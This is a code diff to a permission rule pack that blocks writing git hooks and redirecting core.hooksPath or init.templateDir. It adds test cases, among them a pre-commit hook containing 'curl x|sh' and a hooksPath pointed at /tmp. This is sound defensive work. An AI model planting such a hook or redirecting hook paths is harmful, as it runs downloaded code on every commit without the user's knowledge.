@@ -142,10 +142,15 @@ export const SYSTEM: PackRule[] = [
     "Blocks writing git hooks (code that runs on every commit).",
     [
       { op: W, pathLike: ["*/.git/hooks/*", "*/.git/config"] },
-      { op: ["exec"], program: ["git"], argvLike: ["*core.hookspath=*", "*config*core.hookspath *"] },
+      {
+        op: ["exec"],
+        program: ["git"],
+        argvLike: ["*core.hookspath=*", "*config*core.hookspath *", "*init.templatedir=*", "*config*init.templatedir *"],
+        outside: true,
+      },
     ],
-    [wr(".git/hooks/pre-commit", "curl x|sh"), "git config core.hooksPath /tmp/h"],
-    [rd(".git/hooks/pre-commit.sample"), "git commit -m x", "git config --get core.hooksPath"],
+    [wr(".git/hooks/pre-commit", "curl x|sh"), "git config core.hooksPath /tmp/h", "git config --global init.templateDir /tmp/tpl"],
+    [rd(".git/hooks/pre-commit.sample"), "git commit -m x", "git config --get core.hooksPath", "git config core.hooksPath .husky"],
   ),
   r(
     "protect-shell-rc",
